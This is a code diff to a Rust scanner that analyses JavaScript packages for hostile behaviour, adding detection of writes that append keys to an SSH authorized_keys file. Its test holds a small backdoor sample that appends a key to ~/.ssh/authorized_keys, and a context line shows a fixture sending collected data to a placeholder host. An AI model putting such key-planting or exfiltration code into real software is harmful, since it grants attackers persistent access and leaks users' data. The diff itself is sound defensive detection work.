@@ -1225,7 +1225,18 @@ impl<'t> Walker<'_, 't> {
             | "fs.writeFile"
             | "fs.createWriteStream"
             | "fs.promises.writeFile"
-            | "fs/promises.writeFile" => {
+            | "fs/promises.writeFile"
+            | "fs.appendFileSync"
+            | "fs.appendFile"
+            | "fs.promises.appendFile" => {
+                if first.is_some_and(|p| patterns::is_ssh_authorized_keys(&js.target_text(p))) {
+                    self.push(
+                        "PERSIST-SSH-KEY",
+                        n,
+                        scope,
+                        "writes to an SSH authorized_keys file".into(),
+                    );
+                }
                 // Code written to disk (a script to run later, a patched copy of another
                 // application's module) is analysed as code running where the write is.
                 if let Some(code) = args
@@ -1722,6 +1733,14 @@ request(`https://x.example/?q=${buff}`, () => {});
                 .0
                 .contains(&"EXFIL-SEND-COLLECTED")
         );
+    }
+
+    #[test]
+    fn keys_appended_to_authorized_keys_are_a_backdoor() {
+        let src = "const fs = require('fs'), os = require('os'), path = require('path');\nconst p = path.join(os.homedir(), '.ssh', 'authorized_keys');\nfs.appendFileSync(p, 'ssh-ed25519 AAAA x');";
+        assert!(run(src, Scope::INSTALL).0.contains(&"PERSIST-SSH-KEY"));
+        let read = src.replace("appendFileSync(p, 'ssh-ed25519 AAAA x')", "readFileSync(p)");
+        assert!(!run(&read, Scope::INSTALL).0.contains(&"PERSIST-SSH-KEY"));
     }
 
     #[test]
